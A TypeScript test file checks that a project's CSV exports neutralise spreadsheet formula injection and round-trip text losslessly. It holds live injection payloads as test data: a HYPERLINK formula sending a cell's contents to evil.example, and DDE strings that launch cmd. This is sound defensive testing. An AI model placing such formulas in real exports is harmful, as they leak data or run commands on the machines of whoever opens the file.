// CSV safe for spreadsheets: every writer (the extension's research CSV, `carbon-ledger convert`)
// neutralises cells a spreadsheet would run as a formula, keeps numbers as numbers, and every
// reader (the loaders, `validate`) gets the shop's text back unchanged.

import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readExport } from '../../../analysis/load/read.ts';
import { checkExportFile, type Problem } from '../../../analysis/validate/check.ts';
import { parseCsvRows } from '../../../shared/csv.ts';
import type { LedgerEvent } from '../../../shared/events.ts';
import { csvCell, csvText, neutraliseFormula } from '../../../shared/export/csv-cell.ts';
import { CSV_COLUMNS, researchCsv, researchExport } from '../../../shared/export/research.ts';
import { runBin } from '../cli/run-bin.ts';
import { ALL_TYPES as ALL_SAMPLE_TYPES, kettle, sampleEvent } from '../ledger/samples.ts';

/** Titles a shop page could carry to attack whoever opens the export in a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''@twice",
];

/** What a spreadsheet would run: a cell (after CSV unquoting) starting with a formula character. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell);

const hostileEvents = (): LedgerEvent[] =>
  HOSTILE.map((title, i) => {
    const event = sampleEvent(i % 2 ? 'choice-made' : 'product-viewed', '2026-11-02', 8 + i);
    const product = { ...kettle, title, brand: `-${title}` };
    const study = { studyId: 'csv-study', arm: 'control', participantId: 'p-1' };
    return { ...event, study, data: { ...event.data, product } } as LedgerEvent;
  });

describe('csvCell', () => {
  it('prefixes a quote to text a spreadsheet would run, and only to that text', () => {
    for (const title of HOSTILE) expect(runnable(neutraliseFormula(title))).toBe(false);
    expect(neutraliseFormula('Kettle = good')).toBe('Kettle = good');
    expect(neutraliseFormula("It's fine")).toBe("It's fine");
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
  });

  it('writes numbers as numbers, negative ones too', () => {
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
  });

  it('is undone exactly by csvText, whatever the text', () => {
    for (const text of [...HOSTILE, 'plain', "'", "'plain", '', '-', "'-", "'''=x"]) {
      expect(csvText(neutraliseFormula(text))).toBe(text);
    }
  });
});

describe('the extension research CSV', () => {
  it('leaves no runnable cell when titles and brands are hostile, and numbers unquoted', () => {
    const rows = parseCsvRows(researchCsv(hostileEvents())).slice(2);
    expect(rows).toHaveLength(HOSTILE.length);
    const title = CSV_COLUMNS.indexOf('productTitle');
    const price = CSV_COLUMNS.indexOf('priceAmount');
    for (const row of rows) {
      for (const cell of row) expect(runnable(cell), cell).toBe(false);
      expect(row[price]).toBe('39.99');
    }
    expect(rows.map((row) => csvText(row[title]!)).sort()).toEqual([...HOSTILE].sort());
  });
});

describe('carbon-ledger convert to CSV', () => {
  it('neutralises hostile titles; the loaders and validate read them back as they were', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
    const input = join(dir, 'hostile.json');
    const events = hostileEvents();
    writeFileSync(input, JSON.stringify(researchExport(events, { exportedAt: '2026-11-03T00:00:00.000Z' })));
    const out = join(dir, 'hostile.csv');
    const { code, stderr } = await runBin(['convert', input, '--out', out]);
    expect(stderr).not.toMatch(/Error|at .*\.ts/);
    expect(code).toBe(0);
    const rows = parseCsvRows(readFileSync(out, 'utf8')).slice(2);
    for (const row of rows) for (const cell of row) expect(runnable(cell), cell).toBe(false);

    const read: string[] = [];
    await readExport(out, (event) => read.push(`${event.productTitle}|${event.brand}`));
    expect(read.sort()).toEqual(
      events
        .map((e) => `${'product' in e.data && e.data.product.title}|${'product' in e.data && e.data.product.brand}`)
        .sort(),
    );
    const problems: Problem[] = [];
    await checkExportFile(out, (p) => problems.push(p));
    expect(problems).toEqual([]);
  });
});

describe('validate on a CSV made elsewhere', () => {
  it('names each text cell a spreadsheet would run, by line and column', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
    const csv = researchCsv([sampleEvent('product-viewed', '2026-11-02', 8)]).split('\n');
    const title = CSV_COLUMNS.indexOf('productTitle');
    const brand = CSV_COLUMNS.indexOf('brand');
    const cells = parseCsvRows(csv[2]!)[0]!;
    cells[title] = '=HYPERLINK("https://evil.example")'.replaceAll('"', '""');
    cells[brand] = '@SUM(1)';
    csv[2] = cells.map((cell, i) => (i === title ? `"${cell}"` : cell)).join(',');
    const file = join(dir, 'edited.csv');
    writeFileSync(file, csv.join('\n'));
    const problems: Problem[] = [];
    await checkExportFile(file, (p) => problems.push(p));
    expect(problems).toEqual([
      { where: 'line 3: productTitle', message: "would run as a formula in a spreadsheet (write it with a leading ')" },
      { where: 'line 3: brand', message: "would run as a formula in a spreadsheet (write it with a leading ')" },
    ]);
  });
});

describe('validate and the loaders agree on a CSV saved by a spreadsheet', () => {
  const csv = () => researchCsv(ALL_SAMPLE_TYPES.map((t, i) => sampleEvent(t, '2026-11-02', 8 + i)));

  it('a byte-order mark ("CSV UTF-8") is read past by both', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
    const file = join(dir, 'bom.csv');
    writeFileSync(file, `\uFEFF${csv()}`);
    const problems: Problem[] = [];
    await checkExportFile(file, (p) => problems.push(p));
    expect(problems).toEqual([]);
    const read: string[] = [];
    await readExport(file, (event) => read.push(event.id));
    expect(read).toHaveLength(ALL_SAMPLE_TYPES.length);
  });

  it('lines ended by a carriage return alone, which the loaders do not split, fail validate', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
    const file = join(dir, 'mac.csv');
    writeFileSync(file, csv().replaceAll('\n', '\r'));
    const problems: Problem[] = [];
    await checkExportFile(file, (p) => problems.push(p));
    expect(problems[0]).toEqual({
      where: 'line 1',
      message: 'ends with a carriage return alone: save the file with LF or CRLF line ends',
    });
    await expect(readExport(file, () => {})).rejects.toThrow();
  });
});

describe('a CSV round trip', () => {
  it('is lossless: hostile titles with line breaks (CRLF, CR, LF) come back byte for byte', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'carbon-ledger-csv-'));
    const input = join(dir, 'breaks.json');
    const titles = ['Kettle\r\nwith CRLF', '=1\r\n=2', 'lone\rCR', 'trailing CR\r', '-1+2\n@x', ...HOSTILE];
    const events = titles.map((title, i) => {
      const event = sampleEvent('product-viewed', '2026-11-02', 8 + i);
      return { ...event, data: { ...event.data, product: { ...kettle, title } } } as LedgerEvent;
    });
    writeFileSync(input, JSON.stringify(researchExport(events, { exportedAt: '2026-11-03T00:00:00.000Z' })));
    const first = join(dir, 'first.csv');
    const second = join(dir, 'second.csv');
    expect((await runBin(['convert', input, '--out', first])).code).toBe(0);
    expect((await runBin(['convert', first, '--out', second])).code).toBe(0);
    expect(readFileSync(second, 'utf8')).toBe(readFileSync(first, 'utf8'));
    const read: string[] = [];
    await readExport(first, (event) => read.push(event.productTitle ?? ''));
    expect(read.sort()).toEqual([...titles].sort());
  });
});
